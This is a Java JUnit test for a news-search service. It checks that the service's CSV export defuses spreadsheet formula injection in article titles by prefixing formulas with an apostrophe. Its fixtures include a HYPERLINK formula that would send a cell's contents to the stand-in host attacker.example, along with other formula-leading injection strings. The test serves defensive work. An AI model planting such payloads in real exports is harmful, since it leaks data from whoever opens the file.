package newssearch.reliability;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.StringReader;
import java.net.http.HttpResponse;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import newssearch.web.TestServer;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * A corpus whose titles are spreadsheet formulas: the CSV export shows them as text (prefixed
 * with {@code '}, as OWASP advises), so opening an export never runs what an article's author wrote.
 */
class CsvInjectionTest {
  static final Map<String, String> TITLES = Map.of(
      "hyperlink.txt", "=HYPERLINK(\"http://attacker.example/?leak=\"&A1,\"Click\") okapiquill",
      "plus.txt", "+1+1 okapiquill",
      "minus.txt", "-2+3+SUM(A1:A9) okapiquill",
      "at.txt", "@SUM(1+1) okapiquill",
      "plain.txt", "Okapiquill numbers rise = good news");

  @Test
  void formulaTitlesAreExportedAsText(@TempDir Path indexDir, @TempDir Path corpus) throws Exception {
    for (var e : TITLES.entrySet()) {
      Files.writeString(corpus.resolve(e.getKey()), e.getValue() + "\n\nAn article about the okapiquill.\n");
    }
    try (TestServer server = TestServer.start(indexDir, corpus)) {
      HttpResponse<String> r = server.get("/api/search.csv?q=okapiquill");
      assertEquals(200, r.statusCode(), r.body());
      List<CSVRecord> rows = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
          .parse(new StringReader(r.body())).getRecords();
      assertEquals(TITLES.size(), rows.size(), r.body());
      Map<String, String> exported = new HashMap<>();
      rows.forEach(row -> exported.put(row.get("id"), row.get("title")));
      for (var e : TITLES.entrySet()) {
        String id = e.getKey().replace(".txt", "");
        String title = exported.get(id);
        assertTrue(title != null && title.endsWith(e.getValue().substring(1)), id + ": " + title);
        boolean formula = "=+-@".indexOf(e.getValue().charAt(0)) >= 0;
        assertEquals(formula ? "'" + e.getValue() : e.getValue(), title, "readable, and inert in a spreadsheet");
      }
      for (CSVRecord row : rows) {
        for (String cell : row) {
          assertFalse(!cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0, "a live formula cell: " + cell);
        }
      }
    }
  }
}
